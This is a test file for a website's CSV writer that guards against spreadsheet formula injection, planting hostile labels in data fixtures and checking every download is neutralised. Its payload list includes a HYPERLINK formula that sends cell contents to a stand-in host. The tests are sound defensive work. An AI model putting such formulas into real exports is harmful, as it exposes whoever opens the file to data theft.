/**
 * Every CSV the site serves goes through one writer (src/lib/csv.ts) that neutralises cells a
 * spreadsheet would run as a formula. Tested on the writer itself, on the real pipeline with
 * hostile labels planted in every kind of input that reaches a download, and by a scan of the
 * code for any other CSV writer.
 */
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/csv.ts';
import { runPipeline } from '../../scripts/lib/pipeline.ts';
import { writeDownloads } from '../../scripts/lib/downloads.ts';
import { ROOT, dataFixture, tempDir } from '../helpers/fixture.ts';

const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1+1'];
const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('the CSV writer', () => {
  it('prefixes every text cell that starts like a formula with a quote', () => {
    const text = toCsv(
      HOSTILE.map((label) => ({ label })),
      ['label'],
    );
    const cells = parse(text)
      .slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual(HOSTILE.map((h) => `'${h}`));
  });
  it('catches a formula followed by a newline (papaparse’s own pattern does not)', () => {
    const [, row] = parse(toCsv([{ label: '=1+1\nsecond line' }], ['label']));
    expect(row![0]).toBe("'=1+1\nsecond line");
  });
  it('leaves numbers, including negative ones, and harmless text as they are', () => {
    const text = toCsv(
      [{ value: -1.07, n: 0, ok: true, label: 'Đồng Nai', dash: 'a-b', ids: ['x', 'y'] }],
      ['value', 'n', 'ok', 'label', 'dash', 'ids'],
    );
    expect(text).toBe('value,n,ok,label,dash,ids\n-1.07,0,true,Đồng Nai,a-b,x|y\n');
  });
  it('leaves a lone sign (the sign column) as it is, but not a sign followed by anything', () => {
    const text = toCsv([{ a: '-', b: '+', c: '-1', d: '+x' }], ['a', 'b', 'c', 'd']);
    expect(parse(text)).toEqual([
      ['a', 'b', 'c', 'd'],
      ['-', '+', "'-1", "'+x"],
    ]);
  });
});

describe('the downloads with hostile labels planted in the data', () => {
  const fx = dataFixture();
  // A figure label, a province fact note, a source title, a metric label and an exclusion reason.
  fx.edit('data/raw/tra-vinh-2016-2020.csv', (t) =>
    t.replace('Số chương trình khuyến công thực hiện', '=HYPERLINK("http://x.test")'),
  );
  fx.edit('data/raw/province-facts.csv', (t) =>
    t.replace(/^(nd45-2013-2022\.staffing_band\.ha-noi,.*),$/m, '$1,@SUM(1+1)'),
  );
  fx.edit('data/sources.csv', (t) => t.replace('17th khuyến công conference', '+17th khuyến công conference'));
  fx.edit('data/metrics.csv', (t) => t.replace('Excess over target', '-Excess over target'));
  fx.edit('data/raw/exclusions.csv', (t) => t.replace('The OCR text reads ""2}""', '=The OCR text reads ""2}""'));
  const out = tempDir('kc-csv-');
  writeDownloads(runPipeline(fx.root), out);

  it('writes no text cell that a spreadsheet would run, in any CSV', () => {
    const files = readdirSync(out).filter((f) => f.endsWith('.csv'));
    expect(files.length).toBeGreaterThanOrEqual(7);
    let planted = 0;
    for (const f of files) {
      const rows = parse(readFileSync(join(out, f), 'utf8'));
      for (const [i, row] of rows.entries()) {
        for (const cell of row) {
          if (/^'[=+\-@\t\r]/.test(cell)) planted++;
          // A cell may start with "-" only when it is a plain number (a negative value).
          // …or when it is a lone sign, which has no operand to compute.
          if (cell === '+' || cell === '-') continue;
          if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell))) {
            throw new Error(`${f} row ${i}: formula-like cell ${JSON.stringify(cell)}`);
          }
        }
      }
    }
    // All five planted labels arrived, neutralised.
    expect(planted).toBeGreaterThanOrEqual(5);
  });
});

describe('one CSV writer', () => {
  const files = (dir: string): string[] =>
    readdirSync(dir).flatMap((n) => {
      const p = join(dir, n);
      return statSync(p).isDirectory() ? files(p) : /\.(ts|astro|js|mjs)$/.test(n) ? [p] : [];
    });
  it('has no other CSV serialiser in src/, scripts/ or public/', () => {
    const code = [...files(join(ROOT, 'src')), ...files(join(ROOT, 'scripts')), ...files(join(ROOT, 'public'))]
      // dist-tools.ts is the loopback static server: it maps .csv to its MIME type, it writes no CSV.
      .filter((p) => !p.endsWith('src/lib/csv.ts') && !p.endsWith('scripts/dist-tools.ts'))
      .map((p) => ({ p, text: readFileSync(p, 'utf8') }));
    // papaparse's writer only inside the one module…
    expect(code.filter((f) => /\bunparse\(/.test(f.text)).map((f) => f.p)).toEqual([]);
    // …and whatever serves or writes a CSV file goes through it.
    const writesCsv = code.filter((f) => /text\/csv|writeFileSync\([^)]*\.csv/.test(f.text));
    expect(writesCsv.length).toBeGreaterThan(0);
    expect(writesCsv.filter((f) => !/\btoCsv\(/.test(f.text)).map((f) => f.p)).toEqual([]);
  });
});
